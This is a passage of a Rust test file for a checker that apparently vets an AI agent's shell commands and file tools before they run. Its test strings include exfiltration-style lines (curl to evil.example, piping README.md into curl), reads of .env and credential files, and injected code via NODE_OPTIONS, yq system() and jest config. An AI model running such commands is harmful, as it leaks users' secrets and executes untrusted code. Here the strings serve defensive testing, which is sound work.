    assert_eq!(reason("sqlite3 new.db 'select 1'", true), None);
    for text in ["sqlite3 /srv/new.db 'select 1'", "sqlite3 .git/new.db 'select 1'"] {
        assert!(reason(text, true).is_some(), "{text}");
    }
}

#[test]
fn a_way_up_leaves_the_directory_that_a_link_leads_to() {
    for text in [
        "cat go/../notes.txt",
        "cd go && cat ../notes.txt",
        "cat src/../go/../notes.txt",
        "cat /home/dev/project/go/../notes.txt",
        "echo x > go/../notes.txt",
        "cd go && echo x > ../notes.txt",
        "sort -o go/../notes.txt a.txt",
    ] {
        assert!(reason(text, true).is_some(), "{text}");
    }
    for text in ["cat src/../notes.txt", "cd src && cat ../notes.txt", "cd go/.. && cat notes.txt"] {
        assert_eq!(reason(text, true), None, "{text}");
    }
    let temporary = ["/tmp".to_owned()];
    for (tool, path) in [
        ("Read", "/home/dev/project/go/../notes.txt"),
        ("Read", "/home/dev/project/linked/out"),
        ("Write", "/home/dev/project/go/../notes.txt"),
        ("Write", "/home/dev/project/go"),
    ] {
        assert!(
            prove_tool(tool, &[("file_path", path)], &ground(&temporary, true)).is_err(),
            "{tool} {path}"
        );
    }
}

#[test]
fn what_only_checks_is_told_from_what_does() {
    for text in [
        "git fsck --no-dangling | head",
        "git apply --check fix.patch",
        "git apply --stat -p1 fix.patch",
        "docker compose config -q",
        "docker compose config --services",
        "pip show -f requests",
        "pip freeze --local",
        "git show HEAD:.agentv/targets.yaml",
        "git diff main -- .goreleaser.yaml",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    for text in [
        "git fsck --lost-found",
        "pip show --local out a",
        "pip check --local out",
        "git apply fix.patch",
        "git apply --check --apply fix.patch",
        "git apply --check /etc/sudoers",
        "docker compose config",
        "docker compose config -q --environment",
        "docker compose config -q -o x",
        "git show HEAD:.env",
        "git show HEAD:.npmrc",
        "git show HEAD:.aws/credentials.json",
        "git show HEAD:.x/secrets.yaml",
        "git show HEAD:.mcp.json",
    ] {
        assert!(reason(text, true).is_some(), "{text}");
    }
}

#[test]
fn what_a_text_brings_is_no_file_that_was_looked_at() {
    let link = "uses a file that this text may have put a link in the place of";
    let beside = "fills a place that this text reads or writes at the same time";
    for (text, why) in [
        // A folder with links in it, or one that is too large to look at.
        ("cp -a linked t && echo x > t/out", link),
        ("cp -r linked t && cat a.txt > t/out", link),
        ("cp -rL linked t && cat t/out", link),
        ("cp -rT large t2 && grep -r TOKEN t2", link),
        ("cp -rT hidden t2 && grep -r TOKEN t2", link),
        ("cp -rT linked t2 && rg TOKEN t2", link),
        ("cp -a large t; cat t/k.rs", link),
        ("cp -a large/. .; cat k.rs", link),
        ("cp -a large t; cp t/a b", link),
        ("mv large t; cat t/k.rs", link),
        ("mv large t; mv t u; cat u/k.rs", link),
        ("ln -s a.txt k.txt; cat k.txt", link),
        ("rsync -a large/ t/; head t/k.rs", link),
        ("cp -a large t; cd t/k; cat ../../a.rs", "reads a file in a directory that isn't known"),
        ("cp -a large t; cat t/k/../../a.rs", "reads a file in a directory that isn't known"),
        ("cp -a large t; cd t; tee k.rs < /dev/null", link),
        ("cp -a large t; find t -type f -name '*.rs' -exec cp a.txt {} \\;", link),
        // Another commit.
        ("git checkout -q evil; head klnk", link),
        ("git switch evil && cat klnk", link),
        ("git merge evil; cat klnk", link),
        ("git rebase evil; cat klnk", link),
        ("git cherry-pick evil; cat klnk", link),
        ("git pull; cat klnk", link),
        ("git stash pop; cat klnk", link),
        ("git stash; cat klnk", link),
        ("git reset --hard evil; cat klnk", link),
        ("git restore --source evil klnk; cat klnk", link),
        ("git checkout -b x evil; cat klnk", link),
        ("git checkout evil; grep -r TOKEN", link),
        ("git checkout evil; make", "runs code that this text may have brought into the project"),
        // In another order than it is written.
        ("while true; do cat klnk; git checkout evil; done", beside),
        ("(sleep 1; cat klnk) & git checkout evil", beside),
        ("{ sleep 1; cat klnk; } | git checkout evil", beside),
        ("cat <(sleep 1; cat klnk); git checkout evil", beside),
    ] {
        assert_eq!(reason(text, true).as_deref(), Some(why), "{text}");
    }
    for text in [
        "cp -r src t && cat t/lib/a.rs",
        "cp a.txt b.txt && cat b.txt",
        "mv a.txt b.txt && cat b.txt",
        "mv src t; mv a.txt t/b.txt; cat b.txt",
        "cat a.txt; git pull",
        "cat a.txt; cp -a large t; cat a.txt",
        "git checkout -b x && echo x > a.txt && cat a.txt",
        "git switch -c x; git add -A; git commit -m 'Say why'",
        "git checkout main && git pull && git log --oneline -3",
        "git reset a.txt && cat a.txt",
        "git stash; git status --short; git stash pop",
        "git stash && cargo test",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
    assert_eq!(
        reason("find -L deep -type f -name '*.rs' -exec cp a.txt {} \\;", true).as_deref(),
        Some("`-L` of `find` is not reviewed")
    );
}

/// What calls that only look can run, show or send, found by running them.
#[test]
fn looking_runs_shows_and_sends_nothing() {
    for (text, wanted) in [
        // The views of a database call functions, one of which starts an editor.
        ("sqlite3 data.db 'select 1'", "`sqlite3` loads the project's code"),
        ("sqlite3 -readonly data.db 'select * from users'", "`sqlite3` loads the project's code"),
        ("pylint --help", "`pylint` loads the project's code"),
        ("flake8 --version", "`flake8` loads the project's code"),
        ("tox --help", "`tox` loads the project's code"),
        ("cd pinned && rustc --version", "`rustc` loads the project's code"),
        ("cd husky && git status", "`git status` loads the project's code"),
        ("cd registry && npm view lodash", "`npm view` loads the project's code"),
        ("cd registry && npm outdated", "`npm outdated` loads the project's code"),
        // Git goes up from where the link leads.
        ("git -C inner status", "a repository inside of the project: its configuration can name programs"),
        // Of two files, one of them elsewhere, git shows everything.
        ("git diff /dev/null ~/secrets/token", "a file outside of the project"),
        ("git diff README.md ../docs/credentials", "a file outside of the project"),
        ("git --work-tree=.. diff", "works in a directory outside of the project"),
        ("uv pip list", "`uv pip list` loads the project's code"),
        ("cat */../../secrets/token", "reads a file whose name is computed"),
        ("cat src/*/../../../docs/x", "reads a file whose name is computed"),
        ("cat < */../../docs/x", "reads a file whose name is computed"),
        ("for f in */../../docs/x; do cat \"$f\"; done", "reads a file whose name is computed"),
        ("git diff src ..", "a file outside of the project"),
    ] {
        assert_eq!(reason(text, false).as_deref(), Some(wanted), "{text}");
    }
    for text in [
        "sqlite3 -version",
        "sqlite3 :memory: 'select 1'",
        "git diff main..work",
        "git diff HEAD~1 -- src/a.rs",
        "git diff origin/main...HEAD src",
        "git status --short",
        "npm view lodash",
        "gcc --version",
        "cargo --version",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
}

#[test]
fn what_a_text_brings_is_not_run_by_what_runs_beside_it() {
    let beside = "fills a place that this text reads or writes at the same time";
    let hooks = "runs hooks of git behind what this text brings into the project";
    let behind = "brings files, and git runs a hook behind that";
    for (text, wanted) in [
        ("{ sleep 2; make; } & git checkout evil", beside),
        ("(sleep 2; make) & git switch evil", beside),
        ("{ sleep 2; make; } | git checkout evil", beside),
        ("timeout 9 bash -c 'sleep 2; make' & git checkout evil", beside),
        ("while make; do git checkout evil; done", beside),
        ("until cargo test; do git pull; done", beside),
        ("for ((i=0;i<2;i++)); do make; git switch evil; done", beside),
        ("cd checked && git checkout evil && git commit -m x", hooks),
        ("cd checked && git pull && git commit -m x", hooks),
        ("cd checked && { sleep 2; git commit -m x; } & git checkout evil", beside),
        ("cd left && git checkout evil", behind),
        ("git -C left switch evil", behind),
    ] {
        assert_eq!(reason(text, true).as_deref(), Some(wanted), "{text}");
    }
    for text in [
        "make; git checkout evil",
        "for f in a b; do make; done; git switch main",
        "git checkout evil && git commit -m x",
        "cd checked && git checkout evil",
        "cd checked && git commit -m x && git checkout evil",
        "cd left && git checkout -b next && git commit -m x",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
}

#[test]
fn what_lies_around_a_call_may_make_it_do_more() {
    let link = "reads what lies below a directory, and through the link `key.rs`";
    let inside = "a repository inside of the project: its configuration can name programs";
    let other = "runs code of another directory than the project";
    for (text, code, wanted) in [
        (
            "git --git-dir=pointer.txt status",
            false,
            "a file in the place of a repository, which may lead to another one",
        ),
        ("cd husky && git describe --dirty", false, "`git describe` loads the project's code"),
        ("cd husky && git diff-files", false, "`git diff-files` loads the project's code"),
        ("cd nested && git status", false, inside),
        ("git -C nested add a", true, inside),
        ("git log -L1,5:.env", false, "`.env` is hidden or may hold a secret"),
        ("git log -L 1,5:config/secrets.yaml", false, "`secrets.yaml` is hidden or may hold a secret"),
        ("npm --prefix registry view lodash", false, "`npm view` loads the project's code"),
        ("ruff check wide", false, link),
        ("biome check --write wide", true, link),
        ("cd wide && oxlint --fix .", true, link),
        ("markdownlint wide", true, link),
        ("cd wide && pylint .", true, link),
        ("esbuild wide/tree/key.rs", true, "`.ssh` is hidden"),
        ("mocha --file=wide/tree/key.rs", true, "`.ssh` is hidden"),
        ("esbuild wide/tree/*.rs", true, "`.ssh` is hidden"),
        ("sdiff a.txt wide", false, "reads everything here, and `key.rs` with it"),
        ("poetry --version", false, "`poetry` loads the project's code"),
        ("hg --version", false, "`hg` is not reviewed"),
        ("git log -p --submodule=diff", false, "`diff` is not a word that is reviewed here (`git log`)"),
        ("git show --submodule=diff", true, "`diff` is not a word that is reviewed here (`git show`)"),
        ("diffstat 'b$(touch x).gz'", false, "a name that a shell reads"),
        ("diffstat ./*", false, "a name that a shell reads"),
        (
            "cd stated && terraform workspace list",
            false,
            "`terraform workspace list` loads the project's code",
        ),
        (
            "cd played && ansible-galaxy collection list",
            false,
            "`ansible-galaxy collection list` loads the project's code",
        ),
        ("cd played && ansible --version", false, "`ansible` loads the project's code"),
        ("cd composed && docker compose ps", false, "`docker compose ps` loads the project's code"),
        ("python3 -m coverage run -m pytest @a.log", true, "a file of words for `pytest`"),
        ("coverage run -m pytest @a.log", true, "a file of words for `pytest`"),
        ("shellcheck checked/sub/a.sh", false, "`shellcheck` loads the project's code"),
        ("shellcheck checked/sub/*.sh", false, "`shellcheck` loads the project's code"),
        ("find checked -name '*.sh' -exec shellcheck {} +", false, "`shellcheck` loads the project's code"),
        ("find checked -name '*.sh' | xargs shellcheck", false, "`shellcheck` loads the project's code"),
        ("bsdtar -cf - @x.mtree", false, "a file of words for `bsdtar`"),
        ("cd wide && ruff check", false, link),
        ("gofmt -l wide", false, link),
        ("cd wide && black --check .", false, link),
        ("cd extended && ruff check", false, "`ruff check` loads the project's code"),
        ("ruff check extended", false, "`ruff check` loads the project's code"),
        ("ruff check extended/a.py", false, "`ruff check` loads the project's code"),
        ("shellcheck -x a.sh", false, "`-x` of `shellcheck` is not reviewed"),
        ("cd fixture && make", true, other),
        ("make -C fixture", true, "works in a directory outside of the project"),
        ("pytest fixture", true, "code that lies outside of the project"),
        ("node --test", false, "`node` loads the project's code"),
        ("cd /tmp && node --test", true, other),
        ("echo '<?php x' | php", true, "`php` without an option that only lists"),
        ("npx -y pytest", true, "a tool that isn't installed in the project, and would be fetched"),
        ("prettier --stdin-filepath=/tmp/x/a.js < a.txt", true, "code that lies outside of the project"),
        (
            "go build -ldflags \"-s '-extld=/tmp/x'\"",
            true,
            "`-s '-extld=/tmp/x'` is not a word that is reviewed here (`go build`)",
        ),
        (
            "go build -ldflags all=-extld=/tmp/x",
            true,
            "`all=-extld=/tmp/x` is not a word that is reviewed here (`go build`)",
        ),
        (
            "npm test x --node-options=--import=x",
            true,
            "`--node-options=--import=x` of `npm test` is not reviewed behind words",
        ),
        (
            "npm run build x --node-options=x",
            true,
            "`--node-options=x` of `npm run` is not reviewed behind words",
        ),
        ("mocha data:text/javascript,import%28x%29", true, "an address that holds code"),
        ("tox -c tox.ini exec -- x", true, "`tox exec` is not reviewed"),
        ("tox -e py -q exec x", true, "`tox exec` is not reviewed"),
        ("git pull; npm view lodash", true, "runs code that this text may have brought into the project"),
        ("git pull; ruff check src", true, "runs code that this text may have brought into the project"),
        (
            "python3 -c 'print(1)' | git checkout evil",
            true,
            "fills a place that this text reads or writes at the same time",
        ),
        (
            "echo x > ruff.toml; ruff check src",
            true,
            "runs the project's code beside files that this text writes",
        ),
        ("py.test @x.log", true, "a file of words for `py.test`"),
        ("eslint @x.log", true, "a file of words"),
        ("ruff format wide", true, link),
        ("eslint --fix wide", true, link),
        ("cd pinned && rustup --version", false, "`rustup` loads the project's code"),
        ("turbo --no-color login", true, "`turbo login` is not reviewed"),
        ("playwright codegen x.example", true, "`playwright codegen` is not reviewed"),
        ("mix cmd x", true, "`mix cmd` is not reviewed"),
        ("gotestsum -- -exec=x ./...", true, "`-exec=x` of `gotestsum` can name a command or code"),
        ("basedpyright -p .env", true, "a hidden or secret file for code"),
        ("cmake --build build --target SHELL=/tmp/x.sh", true, "the variable `SHELL` may steer the call"),
        (
            "dotnet build -c 'Debug;X=y'",
            true,
            "`Debug;X=y` is not a word that is reviewed here (`dotnet build`)",
        ),
        ("git merge -s x main", true, "`x` is not a word that is reviewed here (`git merge`)"),
        ("turbo telemetry disable", true, "`turbo telemetry` is not reviewed"),
        ("echo {} | python3 -m json.tool - .git/config", false, "writes `.git`, which is hidden"),
        (
            "echo {} | python3 -m json.tool - package.json; npm test",
            true,
            "runs the project's code beside files that this text writes",
        ),
        (
            "python3 -m ruff check --output-file=a.sh",
            true,
            "`--output-file=a.sh` of `ruff check` is not reviewed",
        ),
        ("echo x > x.log; mocha x.log", true, "reads as code what this text writes"),
        ("echo x > x.log; tox -c x.log", true, "reads as code what this text writes"),
        ("mocha --spec=x.log; echo x > x.log", true, "reads as code what this text writes"),
        (
            "split --additional-suffix=.test.js a.txt a.log; node --test",
            true,
            "runs the project's code beside files that this text writes",
        ),
    ] {
        assert_eq!(reason(text, code).as_deref(), Some(wanted), "{text}");
    }
    for (text, code) in [
        ("ruff check src", false),
        ("cd extended && ruff check", true),
        ("npm view lodash", false),
        ("npm test x -- --node-options=x", true),
        ("git describe --dirty", false),
        ("git log -L1,5:src/a.rs", false),
        ("go build -ldflags '-s -w -X main.version=1'", true),
        ("tox -e py -- -k name", true),
        ("tox -e py", true),
        ("turbo --filter web run build", true),
        ("turbo run build --filter=web", true),
        ("nx affected:test", true),
        ("playwright test a.spec.ts", true),
        ("gotestsum --format dots -- -run X ./...", true),
        ("git merge -s ours main", true),
        ("php -l a.php", false),
    ] {
        assert_eq!(reason(text, code), None, "{text}");
    }
}

#[test]
fn the_projects_tools_are_given_names_and_no_code() {
    for (text, wanted) in [
        ("tox exec -- sh -c x", "`tox exec` is not reviewed"),
        ("nx migrate latest", "`nx migrate` is not reviewed"),
        ("mix eval halt", "`mix eval` is not reviewed"),
        ("rollup -p '{a:1}' x", "`-p` of `rollup` can name a command or code"),
        ("jest --config '{\"globalSetup\":\"./evil\"}'", "a word for `jest` that may be code"),
        ("mix eval 'System.halt()'", "`mix eval` is not reviewed"),
        ("task -t - lint", "`-t` of `task` can name a command or code"),
        ("rake -e exit", "`-e` of `rake` can name a command or code"),
        ("rake --exec exit", "`--exec` of `rake` can name a command or code"),
        ("gotestsum --raw-command -- sh", "`--raw-command` of `gotestsum` can name a command or code"),
        (
            "gotestsum --post-run-command='touch x'",
            "`--post-run-command=touch x` of `gotestsum` can name a command or code",
        ),
        ("gofmt -w ~/docs/a.go", "changes a file outside of the project"),
        ("gofmt -l -w ../docs/a.go", "changes a file outside of the project"),
        ("cd away && make", "runs code of another directory than the project"),
        ("make -C away", "works in a directory outside of the project"),
        (
            "git reset evil; git stash push; make",
            "runs code that this text may have brought into the project",
        ),
        (
            "git reset --soft evil && git stash && make",
            "runs code that this text may have brought into the project",
        ),
        (
            "printf x > CMakeLists.txt && cmake --build build",
            "runs the project's code beside files that this text writes",
        ),
        (
            "echo '<project/>' > pom.xml && mvn test",
            "runs the project's code beside files that this text writes",
        ),
    ] {
        assert_eq!(reason(text, true).as_deref(), Some(wanted), "{text}");
    }
    for text in [
        "tox -e py311",
        "jest src/a.test.ts --coverage",
        "vitest run -t 'adds numbers'",
        "playwright test --grep login",
        "task lint",
        "rake test",
        "nx run app:build",
        "gotestsum ./...",
        "gofmt -w a.go",
        "cd src && make",
        "pylint src",
        "sqlite3 data.db 'select 1'",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
}

#[test]
fn a_program_that_the_project_puts_before_the_installed_one_is_code() {
    let temporary = ["/tmp".to_owned()];
    let reason = |path: &[&str]| {
        let path: Vec<String> = path.iter().map(|directory| (*directory).to_owned()).collect();
        let ground = Ground { path: &path, ..ground(&temporary, true) };
        prove_shell("ls src", &ground).err().map(|refusal| refusal.reason)
    };
    let found = Some("`ls` is found in the project's own directory of programs".to_owned());
    assert_eq!(reason(&["/home/dev/project/node_modules/.bin", "/usr/bin"]), found);
    assert_eq!(reason(&["node_modules/.bin", "/usr/bin"]), found);
    assert_eq!(reason(&["", "/usr/bin"]), found);
    assert_eq!(reason(&["/usr/bin", "/home/dev/project/node_modules/.bin"]), None);
    assert_eq!(reason(&["/home/dev/project/bin", "/usr/bin"]), None);
    assert_eq!(reason(&[]), None);
}

#[test]
fn what_is_put_into_the_repository_keeps_no_secrets() {
    let puts = Some("puts `token.json` into the repository".to_owned());
    assert_eq!(reason("git add secretive", true), puts);
    assert_eq!(reason("cd secretive && git add -A", true), puts);
    assert_eq!(reason("git add src ./secretive/", true), puts);
    assert_eq!(reason("cd secretive; git stage -n '*' a.txt", true), puts);
    assert_eq!(reason("cd secretive && git stash -u", true), puts);
    assert_eq!(reason("cd secretive && git stash push --include-untracked", true), puts);
    assert_eq!(reason("echo x > token.json; git add .", true), puts);
    assert_eq!(reason("mkdir fresh; echo x > fresh/token.json; git add fresh", true), puts);
    assert_eq!(reason("git -C secretive add -A", true), puts);
    assert_eq!(reason("cd src && git -C ../secretive add .", true), puts);
    let unknown = Some("puts files of a directory that isn't known into the repository".to_owned());
    assert_eq!(reason("git --work-tree=secretive add -A", true), unknown);
    assert_eq!(reason("git -C src -C ../secretive add -A", true), unknown);
    let ignored = Some("puts ignored files into the repository".to_owned());
    assert_eq!(reason("git add -f src", true), ignored);
    assert_eq!(reason("git add -f '*'", true), ignored);
    let many = Some("puts more files into the repository than are looked at".to_owned());
    assert_eq!(reason("cd vast && git add .", true), many);
    let all = Some("`-a` of `git stash push` is not reviewed".to_owned());
    assert_eq!(reason("git stash push -a", true), all);
    for text in [
        "git add src",
        "git add .",
        "git add -A",
        "git add -u",
        "git stash -u",
        "git add -f a.txt",
        "git -C src add .",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
}

#[test]
fn prose_that_the_text_writes_may_hold_tests() {
    let prose =
        Some("runs the project's code beside prose that this text writes, which may hold tests".to_owned());
    assert_eq!(reason("printf '>>> x' > README.md; pytest -q", true), prose);
    assert_eq!(reason("echo x > a.txt; python -m pytest", true), prose);
    assert_eq!(reason("npm test; echo x > src/page.html", true), prose);
    for text in [
        "echo x > /tmp/a.txt; pytest",
        "pytest > /tmp/out.txt 2>&1",
        "pytest > run.log 2>&1",
        "echo x > README.md && git add README.md && git commit -m 'Say why'",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
}

#[test]
fn a_subcommand_loads_what_its_program_loads() {
    for (text, wanted) in [
        ("mise ls", "`mise ls` loads the project's code"),
        ("mise which node", "`mise which` loads the project's code"),
        ("uv python list", "`uv python list` loads the project's code"),
        ("composer --version", "`composer` is not reviewed"),
        ("mix --help", "`mix` loads the project's code"),
        ("wrangler --version", "`wrangler` is not reviewed"),
        ("sbt --version", "`sbt` is not reviewed"),
        ("cd jujutsu && jj diff", "`jj diff` loads the project's code"),
        ("helm template ./wide", "reads everything here, and `key.rs` with it"),
        ("helm lint wide/tree", "reads everything here, and `key.rs` with it"),
        ("env", "`env` without a command for it to run"),
    ] {
        assert_eq!(reason(text, false).as_deref(), Some(wanted), "{text}");
    }
    for text in ["go version", "go env GOOS", "uv tool list", "uv cache dir", "jj log", "helm template ./src"]
    {
        assert_eq!(reason(text, false), None, "{text}");
    }
}

#[test]
fn a_search_reads_only_the_names_that_it_looks_for() {
    for text in [
        "grep -rn X hidden --include='*.rs'",
        "grep -rn --include='*.rs' X hidden",
        "grep -rn X hidden --include=*.rs --include=*.toml",
        "cd hidden && grep -rn 'X' . --include=*.rs",
        "wc -l $(git ls-files '*.rs')",
        "cd hidden; git ls-files '*.rs' | xargs wc -l",
        "find hidden -name '*.rs' -not -path './a/*' | xargs wc -l",
        "find hidden -name '*.rs' ! -empty | xargs wc -l",
        "grep -rn X hidden/a*",
        "grep -rn X hidden/*.txt",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    let all = Some("reads everything here, and `.env` with it");
    for (text, wanted) in [
        ("grep -rn X hidden", all),
        ("grep -rn X hidden --include='*'", all),
        ("grep -rn X hidden --include='*.env'", all),
        ("grep -rn X hidden --include='*.rs' --include='*'", all),
        ("grep -rn X hidden --exclude='*.log' --include='*.rs'", all),
        ("grep -rn X deep --include=.env", all),
        // What a glob finds is searched as a whole too.
        ("grep -rn X deep/s*", all),
        ("grep -rn X deep/*/", all),
        ("rg --hidden X deep/*", all),
        (
            "cd \"$(mktemp -d)\" && cd .. && grep -rn X",
            Some("reads everything in a directory that isn't known"),
        ),
        ("cd hidden; git ls-files | xargs cat", Some("`.env` is hidden")),
        ("cd hidden; git ls-files '*.rs' . | xargs cat", Some("`.env` is hidden")),
        ("cd hidden; git ls-files | gxargs cat", Some("`.env` is hidden")),
        ("cd hidden; git ls-files '*.rs' '*' | xargs cat", Some("`.env` is hidden")),
        ("X=-name; find hidden -not $X -path | xargs cat", Some("reads a file whose name is computed")),
        ("find hidden -not '(' -path ./a -name '*.rs' ')' -exec cat {} ';'", Some("`.env` is hidden")),
        ("find hidden -not -name '*.rs' | xargs cat", Some("reads a file whose name is computed")),
        (
            "find hidden -name '*.rs' -not '(' -name b ')' | xargs cat",
            Some("reads a file whose name is computed"),
        ),
    ] {
        assert_eq!(reason(text, false).as_deref(), wanted, "{text}");
    }
}

#[test]
fn variables_that_only_say_who_commits_or_how_much_memory_there_is_steer_nothing() {
    for text in [
        "GIT_AUTHOR_NAME='Ann Lee' GIT_AUTHOR_EMAIL=ann@example.com git commit -m 'Say why'",
        "NODE_OPTIONS=--max-old-space-size=8192 npm test",
        "go run ./cmd/worker --config app.yaml -v",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
    for (text, name) in [
        ("NODE_OPTIONS='--require ./x' npm test", "NODE_OPTIONS"),
        ("GIT_AUTHOR_NAME='$(x)' git commit -m 'Say why'", "GIT_AUTHOR_NAME"),
        ("GIT_EDITOR=vim git commit", "GIT_EDITOR"),
    ] {
        let wanted = format!("the variable `{name}` may steer the call");
        assert_eq!(reason(text, true), Some(wanted), "{text}");
    }
}

#[test]
fn what_only_looks_is_granted_where_nothing_around_it_does_more() {
    for (text, code) in [
        ("poetry --version", true),
        ("terraform workspace list", false),
        ("ansible --version; ansible-galaxy collection list", false),
        ("docker compose ps", false),
        ("git log -p --submodule=log", false),
        ("diffstat a.patch; diffstat ./*.patch", false),
        ("coverage run -m pytest tests", true),
        ("biome check --write src", true),
        ("sdiff -s a.txt b.txt", false),
        ("diff -u <(sort a.txt) <(sort b.txt)", false),
    ] {
        assert_eq!(reason(text, code), None, "{text}");
    }
}

#[test]
fn hidden_names_that_an_ignore_file_takes_back_are_searched() {
    for text in [
        "rg -n X kept",
        "rg -n X hidden",
        "fd . kept | xargs cat",
        "fd . kept -x cat",
        "cd kept && rg X -g '*.rs'",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    let all = Some("reads everything here, and `.env` with it");
    let hidden = Some("`.env` is hidden");
    for (text, wanted) in [
        ("rg -n X shown", all),
        ("cd shown && rg -n X", all),
        ("rg -n X over/sho*", all),
        ("rg -l X shown | xargs cat", all),
        ("fd . shown | xargs cat", Some("reads a file whose name is computed")),
        ("fd . shown -x cat", hidden),
        ("fd . shown -X cat", hidden),
        ("cd shown && fd -x cat", hidden),
        ("rg -g '**/.*' X hidden", Some("`**/.*` is not a word that is reviewed here (`rg`)")),
    ] {
        assert_eq!(reason(text, false).as_deref(), wanted, "{text}");
    }
    // The text itself writes one.
    for text in ["echo '!.env' > hidden/.gitignore; rg X hidden", "cp a.txt hidden/.gitignore && rg X hidden"]
    {
        assert_eq!(reason(text, true).as_deref(), all, "{text}");
    }
}

#[test]
fn behind_a_step_that_may_fail_it_may_not_have_happened() {
    let all = Some("reads everything here, and `.env` with it");
    for (text, wanted) in [
        ("cd hidden; cd nosuch; grep -rn X .", all),
        ("cd hidden && cd nosuch; grep -rn X .", all),
        ("cd hidden; cd a.txt; grep -rn X .", all),
        ("cd hidden; cd ../nosuch/../src; grep -rn X .", all),
        ("cd hidden; cd 'src '; grep -rn X .", all),
        ("cd hidden; cd ../src < a.txt; grep -rn X .", all),
        ("cd hidden; if cd nosuch; then :; fi; grep -rn X .", all),
        ("cd hidden; ! cd nosuch && grep -rn X .", all),
        ("cd hidden; cd nosuch || grep -rn X .", all),
        ("cd hidden; { cd nosuch; }; grep -rn X .", all),
        ("cd hidden; cd nosuch | cat; grep -rn X .", all),
        ("cd hidden; bash -c 'cd nosuch; grep -rn X .'", all),
        ("x=.e; { x=a.; } < a.txt; cat ${x}nv", Some("reads a file whose name is computed")),
        ("x=.e; { x=a.; } > build.log; cat ${x}txt", Some("reads a file whose name is computed")),
    ] {
        assert_eq!(reason(text, true).as_deref(), wanted, "{text}");
    }
    for text in [
        "cd hidden; cd ../src; grep -rn X .",
        "cd hidden; cd ../src 2>/dev/null; grep -rn X .",
        "cd hidden && cd ../nosuch && grep -rn X .",
        "cd src && ls",
        "cd src || exit 1; cat lib/a.rs",
        "mkdir -p nosuch && cd nosuch && ls",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
    let removed = "cd hidden; rm -r ../src; cd ../src; grep -rn X .";
    assert_eq!(reason(removed, true).as_deref(), all);
}

#[test]
fn another_name_than_the_one_that_is_written_is_read_or_made() {
    for (text, code, wanted) in [
        ("gzip -cdf x", false, "`.env` is hidden"),
        ("zcat x", false, "`.env` is hidden"),
        ("zgrep X x", false, "`.env` is hidden"),
        ("zcat prod.pem.gz", false, "`prod.pem.gz` may hold a secret"),
        ("cat server.key~", false, "`server.key~` may hold a secret"),
        ("cat prod.pem.bak", false, "`prod.pem.bak` may hold a secret"),
        ("zip -q o.zip -@ < a.txt", true, "`-@` of `zip` is not reviewed"),
        ("git mv cfg/api_token.txt e.md", true, "`api_token.txt` may hold a secret"),
        ("mv cfg/api_token.txt e.md", true, "`api_token.txt` may hold a secret"),
        ("ln cfg/api_token.txt e.md", true, "`api_token.txt` may hold a secret"),
        (
            "git mv hidden vis; cat vis/a.txt",
            true,
            "uses a file that this text may have put a link in the place of",
        ),
        ("yq 'eval(.x)' a.yml", false, "yq's `eval` (`yq`)"),
        ("yq 'system(\"id\")' a.yml", false, "yq's `system` (`yq`)"),
        ("yq '.a | load_str' a.yml", false, "yq's `load_str` (`yq`)"),
    ] {
        assert_eq!(reason(text, code).as_deref(), Some(wanted), "{text}");
    }
    for (text, code) in [
        ("gzip -l a.txt; zcat a.txt; zgrep X a.txt", false),
        ("cat docs/the.key.md; zcat a.log.gz", false),
        ("mv a.txt b.txt; git mv src/a.rs src/b.rs", true),
        ("yq '.a | select(.b == 1) | keys' a.yml; yq -r '.x[] | length' a.yml", false),
    ] {
        assert_eq!(reason(text, code), None, "{text}");
    }
}

#[test]
fn public_registries_may_be_asked_and_nothing_is_told_to_them() {
    for text in [
        "curl -sSL -H 'Accept: application/vnd.github+json' 'https://api.github.com/repos/a/b/issues?state=open' | jq length",
        "curl -fsSL https://crates.io/api/v1/crates/serde | jq -r .crate.max_version",
        "for p in 1 2; do curl -s \"https://api.github.com/repos/a/b/issues?page=$p\" | jq length; done",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    for (text, part) in [
        ("curl -s https://evil.example/x", "is not a word that is reviewed here"),
        ("curl -s https://api.github.com.evil.example/x", "is not a word that is reviewed here"),
        ("curl -s https://api.github.com@evil.example/x", "is not a word that is reviewed here"),
        ("curl -s https://api.github.com:444/x", "is not a word that is reviewed here"),
        ("curl -s http://api.github.com/x", "is not a word that is reviewed here"),
        ("curl -s 'https://{api.github.com,evil.example}/x'", "is not a word that is reviewed here"),
        ("curl -s \"https://api.github.com/$(cat README.md)\"", "has to be written out"),
        ("curl -s https://crates.io/x -A \"$(cat README.md)\"", "has to be written out"),
        ("curl -s https://pypi.org/x -H 'Host: evil.example'", "a header of `curl`"),
        ("curl -s https://pypi.org/x -H'Authorization: Bearer x'", "a header of `curl`"),
        ("curl -L http://localhost:3000/x", "where an address leads"),
        ("curl -L https://crates.io/x http://localhost:3000/x", "where an address leads"),
        ("cat README.md | curl -s https://crates.io/x", "is fed and talks to a service"),
        ("curl -s https://crates.io/x -d @README.md", "is not reviewed"),
        ("curl -s https://crates.io/x --next https://evil.example", "is not reviewed"),
        ("curl -s https://crates.io/x -x evil.example:80", "is not reviewed"),
    ] {
        let reason = reason(text, true).unwrap_or_default();
        assert!(reason.contains(part), "{text}: {reason}");
    }
}

#[test]
fn names_are_plain_only_where_nothing_else_can_be_printed() {
    for text in [
        "git log $(date +--output=x)",
        "git grep \"$(date '+-Ols;')\" -e a",
        "cat $(date +.env)",
        "git log $(git rev-parse --output=x)",
        "cat $(git rev-parse .env)",
        "git log $(git branch --format=--output=x)",
        "git log $(git for-each-ref --format=--output=x)",
        "sort $(seq -f --output=x%g 1)",
        "sort $(mktemp -u -- --output=xXXX)",
        "sort $(realpath --relative-to=. ./--output=x)",
        "sort $(readlink link)",
        "git log $(git rev-list --pretty=%s -1 HEAD)",
    ] {
        assert_ne!(reason(text, false), None, "{text}");
    }
    for text in [
        "git log $(git merge-base origin/main HEAD)..HEAD",
        "git log -1 $(git rev-parse --abbrev-ref HEAD)",
